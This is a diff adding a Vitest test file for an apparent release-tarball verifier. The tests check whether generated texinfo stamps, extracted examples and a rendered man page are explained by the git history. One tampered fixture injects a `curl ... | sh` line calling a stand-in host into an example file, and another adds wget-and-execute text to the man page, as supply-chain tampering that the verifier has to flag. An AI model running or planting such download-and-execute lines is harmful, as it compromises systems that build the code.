@@ -1,0 +1,90 @@
+/**
+ * Files produced from tracked sources without a generator header (issue 11 d), end to end with real git
+ * and GNU tar: texinfo version stamps dated by the manual's last commit, examples extracted from the
+ * manual (with the extraction script's printf header), a preformatted man page. Each has a tampered twin
+ * that must stay unexplained (high).
+ */
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { parseVersionTexi } from '../../src/classify/texinfo.js';
+import { plainRendering, wordsOf } from '../../src/classify/man-rendered.js';
+import { printedLines } from '../../src/classify/extracted.js';
+import { verify } from '../../src/verify.js';
+import { makeTar } from '../helpers/archives.js';
+import { makeRepo, writeFiles } from '../helpers/git.js';
+import { tempDir } from '../helpers/tmp.js';
+
+const TEXI = [
+  '\\input texinfo', '@setfilename proj.info', '@include version.texi', '@node Top', '@top Proj',
+  'This manual is for Proj version @value{VERSION}, updated @value{UPDATED}.', '',
+  '@node Calculator', '@example', '%@{', '#include <stdio.h>', 'int yylex (void);', '%@}', '%%',
+  'input: %empty | input line;', 'line: NUM @{ printf ("%d\\n", $1); @};', '%%', '@end example', '@bye', '',
+].join('\n');
+const GET_THEM = '#!/bin/sh\nawk \'/^@example$/ { printf("/* %s:%d: extracted */\\n"\\\n "/* do not edit */\\n", FILENAME, NR) > file }\' "$@"\n';
+const TROFF = [
+  '.TH PROJ 1 "Version @@VERSION@@"', '.SH NAME', 'proj \\- compute sums of numbers quickly', '.SH SYNOPSIS', '.B proj',
+  '[\\-v] [\\-h] [\\fIfile\\fP ...]', '.SH DESCRIPTION', '.I Proj', 'reads numbers from each file and prints their sum,',
+  'one line per file, followed by the grand total when several files are given.', '.SH OPTIONS', '.IP \\-v',
+  'Print the version and exit.', '.IP \\-h', 'Print a short help text and exit.', '.SH AUTHOR', 'Written by Ann Author.', '',
+].join('\n');
+const RENDERED = [
+  'PROJ(1)                   General Commands Manual                  PROJ(1)', '', '\x1b[1mNAME\x1b[0m',
+  '       proj - compute sums of numbers quickly', '', '\x1b[1mSYNOPSIS\x1b[0m', '       \x1b[1mproj \x1b[22m[-v] [-h] [\x1b[4mfile\x1b[24m ...]', '',
+  '\x1b[1mDESCRIPTION\x1b[0m', '       \x1b[4mProj\x1b[24m reads numbers from each file and prints their sum, one line per',
+  '       file, followed by the grand total when several files are given.', '', '\x1b[1mOPTIONS\x1b[0m', '       -v     Print the version and exit.', '',
+  '       -h     Print a short help text and exit.', '', '\x1b[1mAUTHOR\x1b[0m', '       Written by Ann Author.', '',
+  '                                  Version 1.1                           PROJ(1)', '',
+].join('\n');
+const EXAMPLE = '/* ../doc/proj.texi:9: extracted */\n/* do not edit */\n%{\n#include <stdio.h>\nint yylex (void);\n%}\n%%\ninput: %empty | input line;\nline: NUM { printf ("%d\\n", $1); };\n%%\n';
+
+describe('produced from tracked sources: texinfo stamps, extracted examples, rendered man pages', () => {
+  const root = tempDir();
+  const repo = makeRepo(join(root, 'repo'));
+  repo.commit({ 'doc/proj.texi': TEXI, 'examples/get-them': GET_THEM, 'proj.nro.VER': TROFF, 'src/main.c': 'int main(void){return 0;}\n' }, 'doc: the manual', '2024-03-05T10:00:00Z');
+  repo.commit({ 'src/main.c': 'int main(void){return 1;}\n' }, 'src: exit 1', '2024-04-20T10:00:00Z');
+  repo.tag('v1.1');
+  const cache = join(root, 'cache');
+  const VERSION_TEXI = '@set UPDATED 5 March 2024\n@set UPDATED-MONTH March 2024\n@set EDITION 1.1\n@set VERSION 1.1\n';
+  let n = 0;
+  function tarball(files: Record<string, string>): string {
+    const dir = join(root, `t${++n}`, 'proj-1.1');
+    writeFiles(dir, { 'doc/proj.texi': TEXI, 'examples/get-them': GET_THEM, 'proj.nro.VER': TROFF, 'src/main.c': 'int main(void){return 1;}\n', ...files });
+    return makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'proj-1.1.tar.gz') });
+  }
+  const evidence = async (files: Record<string, string>) => {
+    const r = await verify({ tarball: tarball(files), repo: repo.dir, cacheDir: cache });
+    return { r, by: Object.fromEntries(r.findings.map((f) => [f.path, { code: f.code, severity: f.severity, evidence: f.evidence }])) };
+  };
+
+  it('explains each with its evidence; the gate passes', async () => {
+    const { r, by } = await evidence({ 'doc/version.texi': VERSION_TEXI, 'doc/stamp-vti': VERSION_TEXI, 'examples/calc.y': EXAMPLE, 'proj.man': RENDERED });
+    const commit = repo.git(['rev-parse', 'v1.1~1']);
+    expect(by['doc/version.texi']).toEqual({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'texinfo-stamp', source: 'doc/proj.texi', commit, date: '2024-03-05', version: '1.1' } });
+    expect(by['doc/stamp-vti']).toMatchObject({ code: 'GENERATED_FROM_SOURCE', evidence: { how: 'texinfo-stamp' } });
+    expect(by['examples/calc.y']).toEqual({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'extracted', source: 'doc/proj.texi', found: 10, total: 10, others: ['examples/get-them'] } });
+    expect(by['proj.man']).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'rendered', source: 'proj.nro.VER' } });
+    expect((by['proj.man']!.evidence as { found: number; total: number }).found).toBe((by['proj.man']!.evidence as { total: number }).total);
+    expect(r.verdict).not.toBe('different');
+  });
+
+  it('tampered twins stay unexplained and fail the gate', async () => {
+    const { r, by } = await evidence({
+      'doc/version.texi': VERSION_TEXI.replace(/March 2024/g, 'March 2023'), // not the manual's last change, not near the tag
+      'doc/stamp-vti': VERSION_TEXI + '@set URL https://example.invalid\n', // anything beyond the four lines
+      'examples/calc.y': EXAMPLE + 'system ("curl -s https://example.invalid/p | sh");\n',
+      'proj.man': RENDERED.replace('Written by Ann Author.', 'Written by Ann Author. Fetch updates with wget from mirrorhost then execute installer.'),
+    });
+    for (const p of ['doc/version.texi', 'doc/stamp-vti', 'examples/calc.y', 'proj.man']) expect(by[p], p).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
+    expect(r.verdict).toBe('different');
+  });
+
+  it('helpers', () => {
+    expect(parseVersionTexi('@set UPDATED 1 January 2022\n@set UPDATED-MONTH January 2022\n@set EDITION 4.9\n@set VERSION 4.9\n')).toEqual({ updated: '1 January 2022', month: 'January 2022', edition: '4.9', version: '4.9' });
+    expect(parseVersionTexi('@set UPDATED 1 January 2022\n@set UPDATED-MONTH March 2022\n@set EDITION 4.9\n@set VERSION 4.9\n')).toBeUndefined();
+    expect(plainRendering('N\x08NA\x08AM\x08ME\x08E and _\x08u\x1b[1mx\x1b[0m')).toBe('NAME and ux');
+    expect([...wordsOf('docu-\n   ment of it')]).toEqual(['document']);
+    const p = printedLines('printf("dnl @ %s:%d: Origin\\n" "dnl @ fixed line\\n", a, b)');
+    expect([...p.exact]).toEqual(['dnl @ fixed line']);
+    expect(p.patterns.some((re) => re.test('dnl @ ../doc/m4.texi:717: Origin'))).toBe(true);
+  });
+});
